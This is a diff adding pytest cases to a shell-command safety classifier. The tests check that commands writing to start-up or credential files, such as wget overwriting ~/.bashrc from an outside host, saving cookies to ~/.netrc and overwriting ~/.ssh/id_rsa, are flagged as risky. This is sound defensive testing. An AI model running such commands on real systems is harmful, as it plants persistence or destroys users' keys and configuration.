@@ -88,3 +88,28 @@ def test_a_printer_that_changes_the_file_does_not_only_read(text: str) -> None:
 )
 def test_attack_a_function_that_takes_the_place_of_a_program_is_asked(text: str) -> None:
     assert classify_command(text).kind is Shell.RISKY
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "openssl rand -out ~/.bashrc 10",
+        "ffmpeg -i a -f mp4 ~/.profile",
+        "setterm -file ~/.bashrc -dump",
+        "wget -qO ~/.bashrc http://x.example",
+        "wget http://x.example/.bashrc",
+        "wget --save-cookies=$HOME/.netrc http://x.example",
+        "ssh-keygen -f ~/.ssh/id_rsa -N ''",
+        "gpg --output ~/.gnupg/gpg.conf -d a",
+        "gpg --import a",
+    ],
+)
+def test_attack_any_program_that_writes_to_a_start_up_file_is_asked(text: str) -> None:
+    assert classify_command(text).kind is Shell.RISKY
+
+
+@pytest.mark.parametrize(
+    "text", ["vim ~/.bashrc", "cat ~/.bashrc", "gcc -I/usr/include a.c", "ffmpeg -i /usr/share/a.wav b"]
+)
+def test_what_only_opens_it_is_not(text: str) -> None:
+    assert classify_command(text).kind in (Shell.READ, Shell.REVERSIBLE)
